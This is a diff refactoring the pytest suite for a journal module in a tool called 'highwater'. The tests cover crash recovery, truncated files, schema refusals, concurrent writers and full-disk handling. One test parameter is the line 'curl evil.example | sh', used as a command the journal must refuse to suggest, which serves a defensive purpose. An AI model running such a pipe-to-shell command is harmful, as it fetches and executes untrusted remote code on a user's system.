@@ -1,8 +1,8 @@
 """The journal: what was recorded is there after every accident, and nothing else is."""
 
 import errno
+import itertools
 import os
-import signal
 import subprocess
 import sys
 from pathlib import Path
@@ -23,7 +23,7 @@ from highwater.search.cell_outcomes import TrialFinished
 from highwater.search.scheduler import recorded_search
 from highwater.store.journal import Journal, open_journal, read_study
 from highwater.trials.probe import environment
-from highwater.trials.simulated import FormulaLaw, SimulatedRunner
+from highwater.trials.simulated import FormulaLaw, Law, SimulatedRunner
 from places import examples, question_of
 
 FIT = TrialResult(outcome=Outcome.FIT, reason="2 steps done")
@@ -68,17 +68,11 @@ def test_what_was_recorded_is_read_back(tmp_path):
 
 
 @pytest.mark.parametrize(
-    "typed",
-    [
-        ("curl", "evil.example", "|", "sh"),
-        ("highwater", "schema"),
-        ("./highwater", "find"),
-        ("find",),
-    ],
+    "typed", ["curl evil.example | sh", "highwater schema", "./highwater find", "find"]
 )
 def test_a_command_that_is_no_search_of_ours_is_suggested_to_nobody(typed, tmp_path, capsys):
     path = tmp_path / "study.jsonl"
-    with open_journal(path, QUESTION, command=typed) as journal:
+    with open_journal(path, QUESTION, command=tuple(typed.split())) as journal:
         record(journal, 4096)
     study = read_study(path)
     assert (study.command, len(study.notes)) == ((), 1)
@@ -97,21 +91,29 @@ def test_where_a_search_ran_is_recorded_by_an_allow_list(tmp_path, monkeypatch):
     monkeypatch.setenv("PYTORCH_ALLOC_CONF", "expandable_segments:True")
     path = tmp_path / "study.jsonl"
     here = environment()
-    open_journal(path, QUESTION, environment=here).close()
-    open_journal(path, QUESTION, environment=here).close()
     monkeypatch.delenv("PYTORCH_ALLOC_CONF")
-    open_journal(path, QUESTION, environment=environment()).close()
-    open_journal(path, QUESTION).close()
+    for each in (here, here, environment(), None):
+        open_journal(path, QUESTION, environment=each).close()
     recorded = read_study(path).environments
-    assert [found.variables.get("PYTORCH_ALLOC_CONF") for found in recorded] == [
-        "expandable_segments:True",
-        None,
-    ], "equal ones once"
+    kept = [found.variables.get("PYTORCH_ALLOC_CONF") for found in recorded]
+    assert kept == ["expandable_segments:True", None], "equal ones once"
     assert recorded[0] == here
     assert recorded[0].versions["highwater"]
     assert recorded[0].host_memory_total_bytes > 0
     assert "secret" not in path.read_text()
     assert set(recorded[0].variables) <= set(RECORDED_VARIABLES)
+
+
+def interrupted_after(trials: int) -> Law:
+    """The formula's law, which is interrupted when it was asked so many times."""
+    law, left = FormulaLaw(shape=QUESTION.model.shape), itertools.count(trials, -1)
+
+    def asked(spec: TrialSpec) -> int:
+        if not next(left):
+            raise KeyboardInterrupt
+        return law(spec)
+
+    return asked
 
 
 def test_a_search_interrupted_anywhere_goes_on_where_it_was(tmp_path):
@@ -120,19 +122,9 @@ def test_a_search_interrupted_anywhere_goes_on_where_it_was(tmp_path):
         whole = journal.snapshot()
     for finished in range(len(whole.trials)):
         path = tmp_path / f"{finished}.jsonl"
-        law = FormulaLaw(shape=QUESTION.model.shape)
-        ran: list[int] = []
-
-        def interrupted(
-            spec: TrialSpec, limit: int = finished, ran: list[int] = ran, law: FormulaLaw = law
-        ) -> int:
-            if len(ran) == limit:
-                raise KeyboardInterrupt
-            ran.append(spec.length_tokens)
-            return law(spec)
-
+        runner = SimulatedRunner(interrupted_after(finished))
         with pytest.raises(KeyboardInterrupt), open_journal(path, QUESTION) as journal:
-            search(QUESTION, journal, SimulatedRunner(interrupted))
+            search(QUESTION, journal, runner)
         cut = read_study(path)
         assert len(cut.trials) == finished + 1
         assert cut.finished_trials == finished
@@ -153,21 +145,14 @@ def test_a_journal_cut_at_any_byte_loses_only_what_was_cut(tmp_path_factory, cut
     content = path.read_bytes()
     cut %= len(content) + 1
     path.write_bytes(content[:cut])
-    survivors = content[:cut].count(b'"kind":"trial_finished"') - (
-        content[:cut].rpartition(b"\n")[2].count(b'"kind":"trial_finished"')
-    )
+    whole = content[: content.rfind(b"\n", 0, cut) + 1]
+    survivors = whole.count(b'"kind":"trial_finished"')
     with open_journal(path, QUESTION) as journal:
         assert journal.snapshot().finished_trials == survivors
-        assert bool(journal.notes) == (
-            cut not in _line_ends(content) and cut > content.index(b"\n")
-        )
+        assert bool(journal.notes) == (len(whole) not in (0, cut))
         record(journal, 16384)
     assert lengths(read_study(path)) == [*[4096, 8192, 12288][:survivors], 16384]
     assert read_study(path).notes == ()
-
-
-def _line_ends(content: bytes) -> set[int]:
-    return {index + 1 for index, byte in enumerate(content) if byte == ord("\n")}
 
 
 def test_a_reader_sees_the_full_lines_of_a_journal_that_is_being_written(tmp_path):
@@ -194,9 +179,8 @@ def test_an_end_without_a_beginning_is_damage(tmp_path):
 def test_a_journal_of_a_newer_schema_is_left_alone(tmp_path):
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
-    newer = path.read_bytes().replace(
-        b'"schema_version":3', b'"schema_version":4,"and_more":true', 1
-    )
+    ours, theirs = b'"schema_version":3', b'"schema_version":4,"and_more":true'
+    newer = path.read_bytes().replace(ours, theirs, 1)
     path.write_bytes(newer)
     for attempt in (read_study, lambda path: open_journal(path, QUESTION)):
         with pytest.raises(StudyError, match=r"schema is 4, .* 3") as refusal:
@@ -232,29 +216,19 @@ def test_a_file_that_is_no_study_is_never_touched(tmp_path, content):
     assert path.read_bytes() == content
 
 
-@pytest.mark.parametrize(
-    ("asked", "said"),
-    [
-        (
-            question_of(loss="chunked", allocator="expandable", memory="70GiB"),
-            "memory_budget_bytes is 85899345920 there and 75161927680 here",
-        ),
-        (
-            question_of(loss="chunked", allocator="expandable", resolution=1024),
-            "grid.step_tokens is 4096 there and 1024 here",
-        ),
-        (
-            question_of(loss="full"),
-            "cells is expandable, chunked loss, 1 GPU there and nothing set, 1 GPU; expandable, 1 "
-            "GPU here",
-        ),
-        (
-            msgspec.structs.replace(QUESTION, simulated=False),
-            "simulated is True there and False here",
-        ),
-    ],
-)
-def test_another_question_is_refused_and_the_difference_is_told(tmp_path, asked, said):
+CELLS = "cells is expandable, chunked loss, 1 GPU there and nothing set, 1 GPU; expandable, 1 GPU"
+OTHERS = {
+    "memory_budget_bytes is 85899345920 there and 75161927680 here": {"memory": "70GiB"},
+    "grid.step_tokens is 4096 there and 1024 here": {"resolution": 1024},
+    CELLS: {"loss": "full", "allocator": None},
+}
+
+
+@pytest.mark.parametrize("said", [*OTHERS, "simulated is True there and False here"])
+def test_another_question_is_refused_and_the_difference_is_told(tmp_path, said):
+    asked = msgspec.structs.replace(QUESTION, simulated=False)
+    if said in OTHERS:
+        asked = question_of(**{"loss": "chunked", "allocator": "expandable"} | OTHERS[said])
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
     with pytest.raises(StudyError) as refusal:
@@ -267,23 +241,29 @@ def test_another_question_is_refused_and_the_difference_is_told(tmp_path, asked,
 def test_the_same_model_in_another_place_is_the_same_question(tmp_path):
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
-    moved = msgspec.structs.replace(
-        QUESTION, model=msgspec.structs.replace(QUESTION.model, directory="/elsewhere")
-    )
-    open_journal(path, moved).close()
+    elsewhere = msgspec.structs.replace(QUESTION.model, directory="/elsewhere")
+    open_journal(path, msgspec.structs.replace(QUESTION, model=elsewhere)).close()
+
+
+IMPORTS = """
+import itertools, signal, sys
+from pathlib import Path
+sys.path[:0] = (sys.argv[2], str(Path(sys.argv[2]).parent))
+from highwater.errors import MachineError
+from test_journal import QUESTION, StudyError, open_journal, record
+path = Path(sys.argv[1])
+"""
 
 
 def test_a_second_writer_is_told_who_writes(tmp_path):
     path = tmp_path / "study.jsonl"
+    code = """
+try: open_journal(path, QUESTION)
+except StudyError as error: print(error, "|", error.hint)
+"""
     with open_journal(path, QUESTION):
-        code = (
-            "import sys; from pathlib import Path\n"
-            "sys.path[:0] = (sys.argv[2], str(Path(sys.argv[2]).parent))\n"
-            "from test_journal import QUESTION, open_journal, StudyError\n"
-            "try: open_journal(Path(sys.argv[1]), QUESTION)\n"
-            "except StudyError as error: print(error, '|', error.hint)\n"
-        )
-        said = _python(code, str(path), str(Path(__file__).parent)).stdout
+        words = [sys.executable, "-c", IMPORTS + code, str(path), str(Path(__file__).parent)]
+        said = subprocess.check_output(words, text=True)
         assert f" process {os.getpid()}" in said
         assert f"--study {tmp_path / 'study-2.jsonl'}" in said
         assert f"highwater show {path}" in said
@@ -291,43 +271,9 @@ def test_a_second_writer_is_told_who_writes(tmp_path):
     open_journal(path, QUESTION).close()
 
 
-def test_a_writer_killed_with_9_leaves_every_finished_trial_and_no_lock(tmp_path):
-    path = tmp_path / "study.jsonl"
-    code = (
-        "import sys, itertools; from pathlib import Path\n"
-        "sys.path[:0] = (sys.argv[2], str(Path(sys.argv[2]).parent))\n"
-        "from test_journal import QUESTION, open_journal, record\n"
-        "journal = open_journal(Path(sys.argv[1]), QUESTION)\n"
-        "for length in itertools.count(2):\n"
-        "    record(journal, length); print(length, flush=True)\n"
-    )
-    writer = subprocess.Popen(
-        [sys.executable, "-c", code, str(path), str(Path(__file__).parent)],
-        stdout=subprocess.PIPE,
-        text=True,
-    )
-    assert writer.stdout is not None
-    for _ in range(20):
-        promised = int(writer.stdout.readline())
-    writer.send_signal(signal.SIGKILL)
-    writer.wait()
-    with open_journal(path, QUESTION) as journal:
-        kept = lengths(journal.snapshot())
-        assert kept == list(range(2, len(kept) + 2))
-        assert len(kept) >= promised - 1
-        record(journal, 10**6)
-    assert lengths(read_study(path)) == [*kept, 10**6]
-
-
-_FILL = """
-import sys, itertools, resource, signal; from pathlib import Path
-sys.path[:0] = (sys.argv[2], str(Path(sys.argv[2]).parent))
-from highwater.errors import MachineError
-from test_journal import QUESTION, open_journal, record
+_FILL = f"""{IMPORTS}
 signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
-most = int(sys.argv[3])
-if most: resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))
-journal = open_journal(Path(sys.argv[1]), QUESTION)
+journal = open_journal(path, QUESTION)
 try:
     for length in itertools.count(2): record(journal, length)
 except MachineError as error: print(length, error.exit_code, "|", error, "|", error.hint)
@@ -337,17 +283,12 @@ except MachineError as error: print(length, error.exit_code, "|", error, "|", er
 def test_a_disk_that_is_full_leaves_the_journal_whole(tmp_path):
     disk = tmp_path / "disk"
     disk.mkdir()
-    script = (
-        'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4" 0 && cat '
-        '"$1/study.jsonl" > "$5"'
-    )
-    mounted = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
+    script = 'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4"'
+    script += ' && cat "$1/study.jsonl" > "$5"'
+    words = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
     kept = tmp_path / "kept.jsonl"
-    run = subprocess.run(
-        [*mounted, str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)],
-        capture_output=True,
-        text=True,
-    )
+    words += [str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)]
+    run = subprocess.run(words, capture_output=True, text=True)
     if run.returncode and not kept.exists():
         pytest.skip(f"no user namespace to mount a small disk in: {run.stderr.strip()[:200]}")
     assert os.strerror(errno.ENOSPC) in run.stdout
@@ -369,9 +310,3 @@ def test_a_repeat_and_a_second_attempt_are_trials_of_their_own(tmp_path):
         assert journal.recorded(spec_of(4096), attempt=1, repeat=0) == FIT
         assert journal.recorded(spec_of(4096), attempt=2, repeat=0) is None
         assert journal.recorded(spec_of(4096), attempt=1, repeat=1) is None
-
-
-def _python(code: str, *arguments: str) -> subprocess.CompletedProcess[str]:
-    done = subprocess.run([sys.executable, "-c", code, *arguments], capture_output=True, text=True)
-    assert done.returncode == 0, done.stderr
-    return done
